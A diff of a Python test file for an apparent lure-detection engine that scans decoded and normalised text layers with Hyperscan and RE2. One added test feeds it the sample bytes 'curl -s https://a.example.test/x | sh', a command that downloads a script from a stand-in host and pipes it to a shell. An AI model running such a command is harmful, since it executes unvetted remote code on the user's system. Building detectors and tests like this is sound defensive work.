@@ -1,9 +1,9 @@
-"""The layers after the raw text read lazily (rules.Reported): Hyperscan's reports of a layer,
-each confirmed by RE2 only when a rule asks. A layer so read says of every pattern what hits
-would have said, the engine finds on them what it finds with every layer's hits made whole, a
-lure that only a decoded or normalised layer shows is still caught there, and a text just past
-the lazy reading's limits (a layer of TIMED_CHUNK bytes, beyond ASCII, no database) gets hits
-as before."""
+"""A short text's layers read lazily (rules.Reported): Hyperscan's reports of a layer, each
+confirmed by RE2 only when a rule asks. A layer so read says of every pattern what hits would
+have said (of the bytes it was given, too), the engine finds what it finds with every layer's
+hits made whole, a lure that only a decoded or normalised layer shows is still caught there,
+and a text just past the lazy reading's limits (TIMED_CHUNK bytes, beyond ASCII, no database
+or not all the patterns in it) gets hits as before."""
 
 from __future__ import annotations
 
@@ -58,6 +58,9 @@ def test_only_what_hits_reads_as_its_reports_confirmed_is_read_lazily(
     layer = fast.reported(just_under)
     assert layer is not None and said(fast, layer) == exact.hits(just_under)[0]
     assert fast.reported(just_under + "x") is None  # hits looks at the clock from there
+    given = b"curl -s https://a.example.test/x | sh"  # the raw text's own bytes, when given
+    layer = fast.reported(text, given)
+    assert layer is not None and said(fast, layer) == exact.hits(text, None, given)[0]
     assert fast.reported(text + "é") is None  # beyond ASCII: not every pattern is in it
     assert exact.reported(text) is None  # no database
     with pytest.MonkeyPatch.context() as patch:  # a database without all the patterns
@@ -81,7 +84,7 @@ def test_the_engine_finds_what_it_finds_with_every_layer_read_whole(engine: Engi
     texts = case_texts()[::6]
     lazy = [reading(engine, t) for t in texts]
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(CompiledRules, "reported", lambda self, text: None)
+        patch.setattr(CompiledRules, "reported", lambda self, text, data=None: None)
         whole = [reading(engine, t) for t in texts]
     assert lazy == whole
     layered = sum(any(layer != "raw" for _, _, layer in found) for found in lazy)
